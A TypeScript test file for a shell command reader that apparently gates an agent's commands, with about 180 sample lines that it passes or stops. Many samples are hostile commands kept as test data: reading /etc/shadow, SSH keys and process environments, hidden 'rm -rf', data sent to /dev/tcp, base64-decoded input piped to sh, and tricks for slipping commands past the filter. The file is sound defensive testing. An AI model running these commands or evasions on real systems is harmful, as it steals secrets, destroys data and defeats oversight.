import { expect } from 'chai';
import type { ReadLine } from '../../../../tenant/gate/shell/line.ts';
import { openTestReader } from '../../../support/line-reader.ts';

type Read = (line: string, stdin?: string) => ReadLine;

/** Lines by what the shell's grammar makes of them: `green`, or the rule that must be among the reasons. */
const lines: readonly (readonly [title: string, line: string, expected: string])[] = [
  ['an assignment that a command uses in a word of its own', 'd=/var/log; ls "$d"', 'green'],
  ['an assignment that makes up the program', 'p=rm; $p -rf /srv/shop/x', 'exec.program.rm'],
  ['a program out of two variables', 'a=r; b=m; $a$b file.txt', 'exec.program.rm'],
  ['a value with blanks is cut into words', 'c="rm -rf"; $c /srv/shop/x', 'exec.program.rm'],
  ['a value that may not have been given yet', 'false && d=/harmless; cat $d/etc/shadow', 'exec.unclear-place'],
  ['a value given behind ||', 'true || d=/harmless; cat "$d"', 'exec.unclear-place'],
  ['a value that is used before it is given', 'cat "$d"; d=/var/log/syslog', 'exec.unclear-place'],
  ['a value given in a subshell is not known outside', 'd=/etc/shadow; (d=/var/log/syslog); cat $d', 'core-files.machine-passwords'],
  ['a value given in a pipe is not known outside', 'd=/etc/shadow; echo x | d=/var/log/syslog; cat $d', 'core-files.machine-passwords'],
  ['a value given in a loop', 'd=/var/log/syslog; for i in 1 2; do cat $d; d=/etc/shadow; done', 'exec.unclear-place'],
  ['a value given by read', 'read d; cat "$d"', 'exec.unclear-place'],
  ['a value given by printf', 'd=/var/log/syslog; printf -v d %s /etc/shadow; cat "$d"', 'exec.unclear-place'],
  ['a value given by declare', 'd=/var/log/syslog; declare d=/etc/shadow; cat "$d"', 'core-files.machine-passwords'],
  ['a value given by eval', 'd=/var/log/syslog; eval d=/etc/shadow; cat "$d"', 'exec.unclear-place'],
  ['a value given in a sum', 'd=/var/log/syslog; : $((d=2)); cat "$d"', 'exec.unclear-place'],
  ['a value given where it is missing', ': ${d:=/etc/shadow}; cat "$d"', 'exec.unclear-place'],
  ['a value given by a function', 'd=/var/log/syslog; f() { d=/etc/shadow; }; f; cat "$d"', 'exec.unclear-place'],
  ['a single quote in a here-document is a letter', "cat <<E\n${x:-'$(touch f)'}\nE", 'exec.unclear-value'],
  ['a value whose name is made up', "n=x; x=1; read $n <<< 'a[$(touch f)]'; echo $((x))", 'exec.unclear-value'],
  ['a value whose name is glued to an option', "x=1; printf -vx %s 'a[$(touch f)]'; echo $((x))", 'exec.unclear-value'],
  ['a value given by a command behind another', "x=1; command read x <<< 'a[$(touch f)]'; echo $((x))", 'exec.unclear-value'],
  ['a value given by a command out of a variable', "x=1; r=read; $r x <<< 'a[$(touch f)]'; echo $((x))", 'exec.unclear-value'],
  ['a value that is a list', "x=('a[$(touch f)]'); echo $((x))", 'exec.unclear-value'],
  ['a sum as the index of an element', "x='a[$(touch f)]'; a=([x]=1)", 'exec.unclear-value'],
  ['numbers as indexes of elements', 'a=([0]=x [1]=y); echo "${a[0]}"', 'green'],
  ['a value that the shell keeps by itself', "echo 'a[$(touch f)]'; echo $((_))", 'exec.unclear-value'],
  ['a value of a shell within that it was handed', "COLUMNS='a[$(touch f)]' bash -c 'echo $((COLUMNS))'", 'exec.unclear-value'],
  ['a variable of the shell that takes all for sums', "RANDOM='a[$(touch f)]'", 'exec.unclear-value'],
  ['a variable of the shell that takes all for sums, named by another', "n=SECONDS; read $n <<< 'a[$(touch f)]'", 'exec.unclear-variable'],
  ['a variable of the shell set to a number', 'SECONDS=0; sleep 1; echo $SECONDS', 'green'],
  ['a variable of the shell that the line sets', "read HOSTNAME <<< /proc/1/environ; cat $HOSTNAME", 'exec.unclear-place'],
  ['a home that the line sets', 'for HOME in /proc/1; do cat ~/environ; done', 'exec.variable'],
  ['the home of somebody whose home nobody knows', 'cat ~sys/sda', 'exec.unclear-place'],
  ['the folder it stands in by its sign', 'cat ~+/../../../proc/1/environ', 'exec.unclear-place'],
  ['a folder it goes to by way of another command', 'command cd /proc/1; cat environ', 'exec.unclear-folder'],
  ['a folder it goes to by a variable', 'c=cd; $c /proc/1; cat environ', 'exec.unclear-folder'],
  ['folders it goes to step by step', 'cd /proc; cd 1; cat environ', 'core-files.process-secrets'],
  ['a folder it goes to again and again', 'for i in 1 2 3; do cd ..; done; cat proc/1/environ', 'exec.unclear-folder'],
  ['folders it goes to in shells of their own', 'for d in a b; do (cd x && ls); done; cat notes.txt', 'green'],
  ['a folder it goes to before many others', 'cd /proc/1; cat environ; cd a; cd b; cd c; cd d; cd e; cd f', 'core-files.process-secrets'],
  ['a pattern that becomes several operands', 'uniq a*', 'exec.program.uniq'],
  ['a pattern that becomes more than the value of an option', 'grep -e /proc/[12]/environ', 'exec.unclear-words'],
  ['what a plain shell cuts otherwise', String.raw`sh -c "echo \$'\\'; touch f #'"`, 'exec.read-in-two-ways'],
  ['what a plain shell runs and bash compares', "sh -c '[[ a || reboot ]]'", 'exec.read-in-two-ways'],
  ['what bash compares', "bash -c '[[ -d a || -d b ]] && ls'", 'green'],
  ['a command between the brackets of a pattern', 'ls [$(touch f)]', 'exec.program.touch'],
  ['a command in what looks like an index', 'echo x[$(touch f)]=1', 'exec.program.touch'],
  ['letters between the brackets of a pattern', 'ls [ab]*.log [[:digit:]]x', 'green'],
  ['a loop over certain words', 'for s in nginx cron; do systemctl status "$s"; done', 'green'],
  ['a loop over words one of which is worse', 'for f in /var/log/syslog /etc/shadow; do cat "$f"; done', 'core-files.machine-passwords'],
  ['a loop over files of a name', 'for f in *.log; do wc -l "$f"; done', 'green'],
  ['a loop over what a program prints', 'for f in $(find / -name "*"); do cat "$f"; done', 'exec.unclear-place'],
  ['a folder it goes to', 'cd /etc && cat shadow', 'core-files.machine-passwords'],
  ['a folder it goes to later', 'for i in 1 2; do cat shadow; cd /etc; done', 'core-files.machine-passwords'],
  ['a folder that nobody knows', 'cd "$(cat where)" && cat shadow', 'exec.unclear-folder'],
  ['a folder in a subshell', '(cd /etc; head -1 shadow)', 'core-files.machine-passwords'],
  ['braces are words', 'cat /etc/{hosts,shadow}', 'core-files.machine-passwords'],
  ['braces are a program and its words', '{rm,-rf,/srv/shop/x}', 'exec.program.rm'],
  ['numbers in braces', 'cat /var/log/syslog.{1..3}', 'green'],
  ['braces beyond what anybody reads', 'cat file{1..900}', 'exec.unclear-place'],
  ['a home by its sign', 'cat ~/.ssh/id_rsa', 'core-files.key-folders'],
  ['a home of another', 'cat ~root/.bash_history', 'core-files.machine-private'],
  ['a star where a secret name would fit', 'cat /etc/shado*', 'core-files.machine-passwords'],
  ['a sign of one letter where a secret name would fit', 'cat /etc/shado?', 'core-files.machine-passwords'],
  ['a star over everything', 'cat /srv/shop/*', 'exec.any-name'],
  ['a star in a folder whose files are all harmless', 'cat /var/log/*', 'green'],
  ['a folder by a star', 'cat /opt/letsbe/stacks/*/.env', 'core-files.settings-with-secrets'],
  ['two dots', 'cat /var/log/../../etc/shadow', 'core-files.machine-passwords'],
  ['an environment variable within a path', 'cat $XDG_RUNTIME_DIR/x', 'exec.unclear-place'],
  ['a redirection into a file', 'ls > out.txt', 'exec.place-write'],
  ['a redirection that appends', 'ls >> out.txt', 'exec.place-write'],
  ['a redirection that clobbers', 'ls >| out.txt', 'exec.place-write'],
  ['a redirection of both', 'ls &> out.txt', 'exec.place-write'],
  ['a redirection that opens for both', 'cat <> out.txt', 'exec.place-write'],
  ['a redirection by number', 'ls 3> out.txt', 'exec.place-write'],
  ['a redirection by a variable', 'ls {fd}> out.txt', 'exec.unclear-value'],
  ['a redirection to nowhere', 'ls 2>/dev/null >/dev/null', 'green'],
  ['a redirection of one to the other', 'ls 2>&1', 'green'],
  ['a redirection from a secret', 'wc -l < /etc/shadow', 'core-files.machine-passwords'],
  ['a redirection alone', '> out.txt', 'exec.place-write'],
  ['a line to another machine', 'cat notes.txt > /dev/tcp/203.0.113.9/80', 'exec.network-device'],
  ['a line from another machine', 'exec 3<>/dev/udp/203.0.113.9/53', 'exec.network-device'],
  ['a here-document with a substitution', 'cat <<E\n$(rm x)\nE', 'exec.program.rm'],
  ['a here-document in quotes', "cat <<'E'\n$(rm x)\nE", 'green'],
  ['a here-document for a shell', 'sh <<E\nrm x\nE', 'exec.program.rm'],
  ['a here-document that is made up for a shell', 'sh <<E\n$x\nE', 'exec.unclear-command'],
  ['a here-document without an end', 'cat <<E\nhello', 'exec.unparsed'],
  ['a here-string for a shell', 'bash <<< "rm x"', 'exec.program.rm'],
  ['a substitution in an assignment', 'x=$(rm y)', 'exec.program.rm'],
  ['a substitution in backquotes', 'echo `rm y`', 'exec.program.rm'],
  ['a substitution in backquotes within one', 'echo `echo \\`rm y\\``', 'exec.program.rm'],
  ['a substitution of a process', 'diff <(ls) <(rm y)', 'exec.program.rm'],
  ['a substitution in the words of a loop', 'for i in $(rm y); do ls; done', 'exec.program.rm'],
  ['a substitution in what is compared', '[[ $(rm y) == x ]]', 'exec.program.rm'],
  ['a substitution in a case', 'case $(rm y) in a) ls;; esac', 'exec.program.rm'],
  ['a substitution in the pattern of a case', 'case x in $(rm y)) ls;; esac', 'exec.program.rm'],
  ['a substitution in a default', 'echo ${x:-$(rm y)}', 'exec.program.rm'],
  ['a substitution in a replacement', 'echo ${x/a/$(rm y)}', 'exec.program.rm'],
  ['a substitution in an index', 'echo ${x[$(rm y)]}', 'exec.program.rm'],
  ['a substitution in a list', 'x=(a $(rm y))', 'exec.program.rm'],
  ['a substitution in a sum', 'echo $(( $(rm y) + 1 ))', 'exec.program.rm'],
  ['a substitution in the target of a redirection', 'ls > $(rm y)', 'exec.program.rm'],
  ['a substitution in a variable for a program', 'A=$(rm y) ls', 'exec.program.rm'],
  ['a sum of numbers', 'echo $((2 * (3 + 4)))', 'green'],
  ['a sum of numbers that a line counts', 'n=0; for i in 1 2; do n=$((n + i)); done; echo $n', 'green'],
  ['a sum of what a program prints', 'n=$(cat x); echo $((n))', 'exec.unclear-value'],
  ['a sum of what is read', 'read n; echo $((n + 1))', 'exec.unclear-value'],
  ['a sum with a hidden command', "n='a[$(rm y)]'; echo $((n))", 'exec.unclear-value'],
  ['a comparison of numbers with a hidden command', "n='a[$(rm y)]'; [[ $n -eq 1 ]]", 'test.hidden-command'],
  ['a name by another name', 'n=x; echo ${!n}', 'exec.unclear-value'],
  ['a prompt', "x='$(rm y)'; echo ${x@P}", 'exec.unclear-value'],
  ['let', "let 'x=a[$(rm y)]'", 'exec.unclear-value'],
  ['a name for read with a command in it', "read 'a[$(rm y)]'", 'exec.unclear-variable'],
  ['a name for unset with a command in it', "unset 'a[$(rm y)]'", 'exec.unclear-variable'],
  ['a function', 'f() { rm x; }; f', 'exec.program.rm'],
  ['a function in place of a harmless program', 'ls() { rm x; }; ls', 'exec.program.rm'],
  ['a function that runs its words', 'f() { "$@"; }; f rm x', 'exec.program.rm'],
  ['a function that runs words that nobody knows', 'f() { "$@"; }; f $x', 'exec.unclear-program'],
  ['a function without end', 'f() { f | f & }; f', 'exec.endless'],
  ['a coprocess', 'coproc ls', 'exec.coprocess'],
  ['a trap', "trap 'rm x' EXIT", 'exec.program.rm'],
  ['a short word for commands', "alias ls='rm x'", 'exec.program.alias'],
  ['eval', 'eval "r""m x"', 'exec.program.rm'],
  ['eval of something made up', 'eval "$x"', 'exec.unclear-command'],
  ['a shell within a shell', 'sh -c "sh -c \'rm x\'"', 'exec.program.rm'],
  ['a shell of something made up', 'sh -c "$x"', 'exec.unclear-command'],
  ['a shell that is fed', 'cat notes.txt | sh', 'exec.unclear-input'],
  ['a shell that is fed what was hidden', 'echo cm0geA== | base64 -d | sh', 'exec.unclear-input'],
  ['a shell that is fed plainly', "echo 'rm x' | sh", 'exec.program.rm'],
  ['a shell in a group that is fed', "echo 'rm x' | { sh; }", 'exec.program.rm'],
  ['xargs', 'ls | xargs rm', 'exec.program.rm'],
  ['xargs of a shell', 'ls | xargs -I{} sh -c "echo {}"', 'exec.unclear-command'],
  ['find', 'find . -exec rm {} \\;', 'exec.program.rm'],
  ['wrappers one over the other', 'env A=1 nice -n 3 timeout 5 ionice -c3 rm x', 'exec.program.rm'],
  ['a program by its folder', '/usr/bin/ls', 'green'],
  ['a program in a folder of the agent', './ls', 'exec.unknown-program'],
  ['a program in a folder for everybody', '/tmp/ls', 'exec.unknown-program'],
  ['a program by two dots', '/usr/bin/../../tmp/ls', 'exec.unknown-program'],
  ['a program that nobody knows', 'lsx -la', 'exec.unknown-program'],
  ['a library put into a program', 'LD_PRELOAD=./x.so ls', 'exec.variable'],
  ['another place for programs', 'PATH=.:$PATH ls', 'exec.variable'],
  ['another place for programs, set before', 'PATH=.; ls', 'exec.variable'],
  ['a setting of which nobody knows what it does', 'WHAT=1 ls', 'exec.unknown-variable'],
  ['a setting of how things are shown', 'LC_ALL=C TZ=UTC ls', 'green'],
  ['IFS for read', 'while IFS= read -r l; do echo "$l"; done < notes.txt', 'green'],
  ['a line break', 'ls\nrm x', 'exec.program.rm'],
  ['a comment', 'ls # rm x', 'green'],
  ['a sign that begins no comment', 'echo a#b; rm x', 'exec.program.rm'],
  ['a line that goes on', 'r\\\nm x', 'exec.program.rm'],
  ['a letter without width', 'l\u200bs', 'exec.hidden-characters'],
  ['a blank of another script', 'ls\u00a0-la', 'exec.hidden-characters'],
  ['a carriage return', 'ls\r', 'exec.hidden-characters'],
  ['quotes without an end', "echo 'a", 'exec.unparsed'],
  ['brackets without an end', 'echo $(ls', 'exec.unparsed'],
  ['nothing', '', 'exec.empty'],
  ['a line that parsers cut in two ways', 'time -p ls', 'exec.read-in-two-ways'],
  ['a command in pieces that are put together', "printf %s 'DROP DATA' 'BASE shop' | psql", 'sql.drop-database'],
  ['a comment alone', '# nothing', 'green'],
  ['an option in one word with its value', 'sort -oout.txt names.txt', 'exec.place-write'],
  ['an option among others', 'sort -ruoout.txt names.txt', 'exec.place-write'],
  ['an option behind its operand', 'sort names.txt -o out.txt', 'exec.place-write'],
  ['an option that is shortened', 'sort --out=out.txt names.txt', 'exec.shortened-option'],
  ['an option behind two dashes is none', 'ls -- -la', 'green'],
  ['an option that nobody knows', 'ls --frobnicate', 'exec.unknown-option'],
  ['an option by a variable', 'x=$(cat y); sort $x names.txt', 'exec.unclear-words'],
  ['an operand that is written', 'uniq names.txt out.txt', 'exec.place-write'],
  ['a number of an option, glued or not', 'tree -L2 /srv; tree -L 2 /srv; zstd -T0 -t a.zst', 'green'],
  ['an option behind the number of another', 'zstd -c -T0o out in', 'exec.place-write'],
  ['an option behind one whose value is the next word', "tree -Po '*.c' out", 'exec.program.tree'],
  ['what is no number where there must be one', 'less -b$0 notes.txt', 'exec.no-number'],
  ['a number that is made up and holds a command', 'pt-summary --sleep "5;rm x"', 'exec.no-number'],
  ['a file whose words are options', 'promtool query instant http://localhost:9090 up @words', 'exec.options-from-file'],
  ['a file whose words are options, as the value of one', 'strings -n @words ./notes', 'exec.options-from-file'],
  ['a word that may be a file of options', 'mkvinfo "$1"', 'exec.options-from-file'],
  ['a word that is no file of options for all its @', 'promtool check rules rules/@home.yml', 'green'],
];

describe('the reader of command lines', () => {
  let read: Read;

  before(async () => {
    read = await openTestReader();
  });

  for (const [title, line, expected] of lines) {
    it(`${expected === 'green' ? 'lets through' : 'stops'} ${title}`, () => {
      const { verdict } = read(line);
      if (expected === 'green') expect(verdict).to.deep.include({ class: 'green', ask: false, external: false });
      else {
        expect(verdict.class).to.not.equal('green');
        expect(verdict.reasons.map(({ rule }) => rule)).to.include(expected);
      }
    });
  }

  it('reads what it is given on its standard input as the program does', () => {
    expect(read('sh', 'rm x').verdict.reasons.map(({ rule }) => rule)).to.include('exec.program.rm');
    expect(read('cat', 'rm x').verdict.class).to.equal('green');
  });

  it('says where the programs of a line stand in it', () => {
    const line = 'A=1 ls -l | "gr"ep x && sh -c "rm y"';
    expect(read(line).programs.map(({ name, at }) => [name, at && line.slice(at.start, at.end)])).to.deep.equal([['ls', 'ls'], ['grep', '"gr"ep'], ['sh', 'sh'], ['rm', undefined]]);
  });

  it('gives the words of a line that needs no shell, and of no other', () => {
    expect(read("grep -c 'a b' notes.txt").plain).to.deep.equal(['grep', '-c', 'a b', 'notes.txt']);
    for (const line of ['ls | wc', 'ls > x', 'A=1 ls', 'ls *.txt', 'ls; ls', 'ls &', 'cat "$x"', '(ls)', 'ls {a,$b}']) expect(read(line).plain, line).to.equal(undefined);
  });

  it('names the files that a line would run', () => {
    expect(read('sh ./build.sh && . settings && python3 report.py').runs).to.deep.equal(['./build.sh', 'settings', 'report.py']);
  });

  it('calls nothing harmless that begins over and over and never ends', () => {
    for (const line of ['$('.repeat(5000), '('.repeat(5000), '{'.repeat(5000), '`'.repeat(5001), 'a=${'.repeat(2000), '[[ '.repeat(3000), '<<A '.repeat(2000), '!'.repeat(8000), 'if '.repeat(3000), `sh -c ${'"'.repeat(4999)}`, '$(('.repeat(3000)]) expect(read(line).verdict.class).to.not.equal('green');
  });
});
